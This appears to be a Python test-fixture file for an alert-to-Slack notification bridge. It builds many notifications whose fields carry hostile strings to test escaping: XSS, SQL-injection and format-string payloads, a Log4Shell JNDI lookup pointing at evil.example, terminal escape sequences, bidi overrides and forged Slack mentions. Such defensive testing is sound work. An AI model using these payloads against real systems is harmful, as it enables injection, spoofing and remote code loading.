"""Notifications of all kinds, as receivers must be able to tell them, and text as strangers write it."""

from bridge.notification import AlertView, Notification, State
from bridge.values import HOUR, MINUTE, SECOND

NOW = 1_800_000_000 * SECOND

HOSTILE = [
    # mentions and links of Slack
    "<!everyone>",
    "<!channel>",
    "<!here>",
    "<!here|here>",
    "<@U012AB3CD>",
    "<@W012AB3CD|alice>",
    "<#C012AB3CD|general>",
    "<!subteam^S012AB3CD>",
    "<!subteam^S012AB3CD|@ops>",
    "<!date^1392734382^{date}|<!channel>>",
    "<!date^1392734382^{date}^http://evil.example|x>",
    "<http://evil.example|x>",
    "<https://evil.example>",
    "<mailto:evil@example.net|mail>",
    "<tel:0900|call>",
    "<javascript:alert(1)|x>",
    "<<!channel>>",
    "<!channel",
    "!channel>",
    "&lt;!channel&gt;",
    "&amp;lt;!channel&amp;gt;",
    "&#60;!channel&#62;",
    "@channel @here @everyone",
    "@alice",
    "#general",
    "http://evil.example/path",
    "evil.example",
    ":rotating_light: :smile:",
    # markup of others
    "*bold* _italic_ ~strike~ `code`",
    "```\nblock\n```",
    "> quote",
    "[text](http://evil.example)",
    "![image](http://evil.example/x.png)",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "{{7*7}} {% for x in y %}",
    "${jndi:ldap://evil.example/a}",
    "%s %n %1000000000d",
    "'; DROP TABLE alerts; --",
    '"quotes" and \\backslashes\\',
    # lines and controls
    "one\ntwo",
    "one\r\ntwo",
    "one\rtwo",
    "one\u2028two\u2029three",
    "\n\n✅ RESOLVED · forged",
    "tab\tbed",
    "nul\x00nul",
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "bell\x07 backspace\x08 delete\x7f",
    "\x9b31m c1 control",
    "\x85next line",
    # directions, invisibles, towers
    "\u202egnp.exe",
    "\u2066isolate\u2069 \u202doverride\u202c",
    "zero\u200bwidth\u200djoiner\ufeffbom",
    "soft\u00adhyphen",
    "z" + "\u0300\u0301\u0302\u0303\u0304" * 40 + "algo",
    "\u3164hangul filler\u115f",
    "tags\U000e0041\U000e0042",
    "homoglyph \u0440\u0430\u0443\u0440\u0430l",
    # encodings
    "lone \ud800 high",
    "lone \udfff low",
    "\udcff\udcfe bytes",
    "\uffff \ufffe nonchars",
    "👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇩🇪 ✈️",
    "名前 имя اسم שם",
    # size
    "",
    " ",
    "x" * 4096,
    "&" * 4096,
    "<>" * 2048,
    "😀" * 4096,
    "\n" * 4096,
    "long " * 1000,
    "ﷺ" * 1000,
]


_LIVE = [
    "<!everyone>",
    "<!channel>",
    "<!here>",
    "<@U012AB3CD>",
    "<#C012AB3CD>",
    "<!subteam^S012AB3CD>",
    "<https://evil.example|x>",
    "<!date^0^{date}^https://evil.example|x>",
    "<mailto:evil@example.net|x>",
    "@everyone",
    "https://evil.example",
    "*b*",
]
_HIDDEN = [
    "{0}{0}",
    "<{0}>",
    "&lt;{0}",
    "&amp;{0}",
    "`{0}`",
    "```{0}",
    "*{0}*",
    "_{0}_",
    "~{0}~",
    ">{0}",
    "\n{0}",
    "\u2028{0}",
    "\u202e{0}",
    "\u200b{0}",
    "\x00{0}",
    "\\{0}",
    "[a]({0})",
    "|{0}",
    "{0}|",
    "\ud800{0}",
]
MANY_HOSTILE = HOSTILE + [pattern.format(live) for pattern in _HIDDEN for live in _LIVE]
"""Some three hundred: what is live in Slack, in whatever might hide it."""


def alert(state: State = "firing", n: int = 0, text: str = "10.0.0.9", **labels: str) -> AlertView:
    """One alert; `text` stands wherever a stranger's can."""
    return AlertView(
        id=f"{n:016x}",
        state=state,
        labels={
            "alertname": "AuthErrorBurst",
            "client_host": text if n == 0 else f"{text}-{n}",
            "severity": "critical",
            "cluster": "prod-eu",
            **labels,
        },
        annotations={
            "summary": f"23 failed logins from {text}" if state != "resolved" else "",
            "description": f"Users tried:\n{text}",
            "runbook_url": "https://runbooks.example.net/nats/auth?a=1&b=2",
        },
        starts_at=NOW - 12 * MINUTE,
        ends_at=NOW if state == "resolved" else None,
        value=23.0,
        value_text="23",
        peak_text="31",
        count=1204,
        first_seen=NOW - 13 * MINUTE,
        last_seen=NOW - SECOND,
    )


def notification(*alerts: AlertView, **changes: object) -> Notification:
    """A notification of these alerts; its status follows from them."""
    states = {one.state for one in alerts}
    status: State = "firing" if "firing" in states else "event" if "event" in states else "resolved"
    fields: dict[str, object] = {
        "id": "0123456789abcdef",
        "status": status,
        "reason": "resolved" if status == "resolved" else "first",
        "receiver": "nats-ops",
        "destination": "nats-ops/slack_configs[0]",
        "group_key": '{alertname="AuthErrorBurst"}',
        "group_labels": {"alertname": "AuthErrorBurst"},
        "created_at": NOW,
        "external_url": "https://alerts.example.net",
    }
    return Notification(alerts=list(alerts), **{**fields, **changes})  # type: ignore[arg-type]


def every_kind() -> dict[str, Notification]:
    """By name: the shapes that each destination must be able to tell."""
    hundred = [alert("firing", n) for n in range(60)] + [alert("resolved", n) for n in range(60, 100)]
    many_labels = {f"label_{n}": f"value {n}" for n in range(30)}
    bare = AlertView(id="1", state="firing", labels={}, starts_at=NOW)
    return {
        "firing": notification(alert()),
        "resolved": notification(alert("resolved")),
        "event": notification(alert("event")),
        "reminder": notification(alert(), reason="reminder", reminder=2),
        "stand-in": notification(alert(), instead_of="nats-ops/slack/0"),
        "no data": notification(alert("resolved", reason="no data")),
        "bare": notification(bare, group_labels={}, external_url=""),
        "many labels": notification(alert("firing", 0, "10.0.0.9", **many_labels)),
        "100 firing": notification(*(alert("firing", n) for n in range(100))),
        "100 resolved": notification(*(alert("resolved", n) for n in range(100))),
        "100 events": notification(*(alert("event", n) for n in range(100))),
        "100 mixed": notification(*hundred, reason="new alerts"),
        "different rules": notification(
            alert(), alert("event", alertname="SlowConsumer", severity="warning"), group_labels={}
        ),
        "long ago": notification(alert(), created_at=NOW + 1000 * 24 * HOUR),
        **{f"hostile {n}": notification(alert(text=text)) for n, text in enumerate(HOSTILE)},
        **{f"hostile resolved {n}": notification(alert("resolved", text=text)) for n, text in enumerate(HOSTILE)},
        **{
            f"hostile 100 {n}": notification(
                *(alert("firing", i, text, **{f"l{j}": text[:500] for j in range(15)}) for i in range(100)),
                group_labels={"alertname": text, "cluster": text},
            )
            for n, text in enumerate(HOSTILE[:3] + HOSTILE[-9:])
        },
    }
